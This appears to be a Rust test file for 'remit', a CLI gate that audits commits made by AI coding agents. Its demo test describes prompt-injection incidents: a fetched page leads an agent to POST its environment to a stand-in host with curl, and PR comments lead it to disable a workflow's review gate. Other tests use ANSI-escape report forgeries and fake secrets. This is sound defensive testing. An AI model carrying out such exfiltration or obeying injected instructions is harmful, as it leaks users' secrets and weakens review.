//! The command-line surface: explain, demo, help, text output.

use crate::common::*;

#[test]
fn explain_every_rule_and_reject_unknown_ones() {
    let dir = tempfile::TempDir::new().expect("tempdir");
    for rule in [
        "protected-path",
        "scope-drift",
        "manifest-missing",
        "manifest-changed",
        "workflow-risk",
        "codeowners-weakened",
    ] {
        let out = remit(dir.path(), &["explain", rule]);
        assert_eq!(out.status.code(), Some(0));
        let text = stdout(&out);
        assert!(text.starts_with(&format!("# `{rule}`")), "{text}");
        assert!(
            text.contains("How to fix") && text.contains("Frameworks: OWASP-LLM06"),
            "{text}"
        );
    }
    let out = remit(dir.path(), &["explain"]);
    assert!(stdout(&out).contains("scope-drift"));
    let out = remit(dir.path(), &["explain", "nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("known rules: protected-path"));
}

#[test]
fn demo_replays_incidents_and_leaves_nothing_behind() {
    let dir = tempfile::TempDir::new().expect("tempdir");
    let tmp = tempfile::TempDir::new().expect("tempdir");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_remit"))
        .arg("demo")
        .current_dir(dir.path())
        .env("TMPDIR", tmp.path())
        .env("NO_COLOR", "1")
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        text.contains("Incident 1") && text.contains("Incident 2") && text.contains("Incident 3")
    );
    assert_eq!(text.matches("verdict BLOCK").count(), 3, "{text}");
    // Incident 1: a clean diff, blocked by what the session log shows.
    assert!(
        text.contains("block exfiltration .remit/sessions/7c2e41d0-payments.jsonl:6"),
        "{text}"
    );
    assert!(
        text.contains("block prompt-injection .remit/sessions/7c2e41d0-payments.jsonl:6"),
        "{text}"
    );
    assert!(
        text.contains("fetch https://docs.payflow-sdk.dev/troubleshooting/refunds at seq 4 → ran `curl -s -X POST https://diag.payflow-sdk.dev/v1/env-report"),
        "{text}"
    );
    assert!(text.contains("protected-path [pipeline] .github/workflows/release.yml"));
    assert!(text.contains("workflow-risk .github/workflows/release.yml:7"));
    assert!(
        text.contains("tool mcp__github__get_pull_request_comments at seq 4 → wrote .github/workflows/release.yml at seq 5"),
        "{text}"
    );
    assert!(text.contains("job `review-gate` is switched off by `if: false`"));
    assert!(text.contains("job `review-gate` no longer uses environment `production`"));
    assert!(text.contains("job `publish` no longer needs `review-gate`"));
    assert!(text.contains("protected-path [auth] src/auth/session.py"));
    assert!(!text.contains("\x1b["), "no colour when not a terminal");
    assert_eq!(
        std::fs::read_dir(tmp.path()).expect("read").count(),
        0,
        "temp repos removed"
    );
    assert_eq!(std::fs::read_dir(dir.path()).expect("read").count(), 0);
}

#[test]
fn help_documents_exit_codes() {
    let dir = tempfile::TempDir::new().expect("tempdir");
    let out = remit(dir.path(), &["--help"]);
    assert!(stdout(&out).contains("2 the gate could not decide"));
    let out = remit(dir.path(), &["check", "--bogus"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn text_report_groups_by_commit_with_the_why() {
    let (dir, mut r) = repo();
    manifest(&mut r, SRC_ONLY);
    r.write(".github/workflows/ci.yml", "on: push\n")
        .expect("w");
    r.commit(&format!("ci{CLAUDE}"), &agent()).expect("c");
    let out = remit(dir.path(), &["check", "--base", "main"]);
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(text.contains("commit "), "{text}");
    assert!(
        text.contains("block protected-path [pipeline] .github/workflows/ci.yml"),
        "{text}"
    );
    assert!(
        text.contains("glob `/.github/workflows/**` (built-in)"),
        "{text}"
    );
    assert!(text.contains("outside scope.paths"), "{text}");
    assert!(text.contains("fix:"), "{text}");
    assert!(text.contains("verdict BLOCK"), "{text}");
    assert!(!text.contains("\x1b["), "{text}");
}

#[test]
fn several_formats_to_files() {
    let (dir, mut r) = repo();
    manifest(&mut r, SRC_ONLY);
    r.write("src/a.rs", "x\n").expect("w");
    r.commit(&format!("a{CLAUDE}"), &agent()).expect("c");
    let out = remit(
        dir.path(),
        &[
            "check", "--base", "main", "--format", "json", "--output", "r.json", "--format", "text",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("r.json")).expect("file"))
            .expect("json");
    // Only the log-missing warning: no audit log was committed.
    assert_eq!(json["verdict"], "warn");
    assert!(stdout(&out).contains("verdict WARN"));
}

#[test]
fn secrets_in_commit_messages_are_redacted() {
    let (dir, mut r) = repo();
    manifest(&mut r, SRC_ONLY);
    r.write("docs/x.md", "x\n").expect("w");
    r.commit(
        &format!("use API_TOKEN=hunter2secret ghp_0123456789abcdefghijklmnopqrstuvwxyzAB{CLAUDE}"),
        &agent(),
    )
    .expect("c");
    let sha = r.head().expect("head").to_string();
    // Exactly the two secrets are replaced; the words around them stay.
    let summary = "use API_TOKEN=[REDACTED] [REDACTED]";
    let (_, report) = check_json(dir.path(), &[]);
    let text = report.to_string();
    assert!(
        !text.contains("hunter2secret") && !text.contains("ghp_0123"),
        "{text}"
    );
    assert_eq!(report["commits"][1]["summary"], summary, "{report:#}");
    assert_eq!(text.matches("[REDACTED]").count(), 2, "{report:#}");

    let out = remit(dir.path(), &["check", "--base", "main", "--format", "text"]);
    let text = stdout(&out);
    assert!(
        !text.contains("hunter2secret") && !text.contains("ghp_0123"),
        "{text}"
    );
    // Each finding names the commit by its summary: scope drift and the
    // missing log, both on the agent commit.
    let line = format!("      commit: {} {summary}", &sha[..12]);
    assert_eq!(
        text.lines().filter(|l| *l == line).count(),
        2,
        "{line}\n{text}"
    );
    assert_eq!(text.matches("[REDACTED]").count(), 4, "{text}");
}

#[test]
fn control_characters_cannot_forge_report_lines() {
    let (dir, mut r) = repo();
    manifest(&mut r, SRC_ONLY);
    r.write(".github/workflows/ci.yml", "x\n").expect("w");
    r.commit(&format!("innocent\x1b[2J\rverdict PASS{CLAUDE}"), &agent())
        .expect("c");
    let out = remit(dir.path(), &["check", "--base", "main"]);
    let text = stdout(&out);
    assert!(!text.contains('\x1b') && !text.contains('\r'), "{text:?}");
    assert!(text.contains("\\u{1b}[2J\\rverdict PASS"), "{text}");
}

#[test]
fn ansi_escapes_in_commit_messages_are_shown_not_acted_on() {
    let (dir, mut r) = crate::common::repo();
    r.write(".github/workflows/ci.yml", "on: push\n")
        .expect("w");
    r.commit(
        &format!(
            "\u{1b}[2J\u{1b}[32mall good\u{1b}[0m{}",
            crate::common::CLAUDE
        ),
        &crate::common::agent(),
    )
    .expect("c");
    for format in ["github", "markdown"] {
        let out =
            crate::common::remit(dir.path(), &["check", "--base", "main", "--format", format]);
        let text = crate::common::stdout(&out);
        assert!(!text.contains('\u{1b}'), "{format}: {text}");
        assert!(
            text.contains('␛') || !text.contains("all good"),
            "{format}: {text}"
        );
    }
}

/// A blocking range: an agent commit edits a workflow with no manifest.
fn blocked_repo() -> tempfile::TempDir {
    let (dir, mut r) = repo();
    r.write(".github/workflows/ci.yml", "on: push\n")
        .expect("write");
    r.commit(&format!("Edit CI{CLAUDE}"), &agent())
        .expect("commit");
    dir
}

#[test]
fn a_reader_that_stops_early_leaves_the_verdict_as_the_exit_code() {
    let dir = blocked_repo();
    for args in [
        &["check", "--base", "main"][..],
        &["explain"][..],
        &["protected", "HEAD"][..],
    ] {
        // The read end is gone before remit writes a byte: every write
        // fails with a closed pipe.
        let (reader, writer) = std::io::pipe().expect("pipe");
        drop(reader);
        let out = remit_command(dir.path(), args)
            .stdout(writer)
            .output()
            .expect("run remit");
        let err = stderr(&out);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        let expected = if args[0] == "check" { 1 } else { 0 };
        assert_eq!(out.status.code(), Some(expected), "{args:?}: {err}");
    }
}

#[test]
fn a_report_that_cannot_be_written_fails_closed() {
    let dir = blocked_repo();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full");
    let out = remit_command(dir.path(), &["check", "--base", "main"])
        .stdout(full)
        .output()
        .expect("run remit");
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("cannot write to standard output") && err.contains("not delivered"),
        "{err}"
    );
}
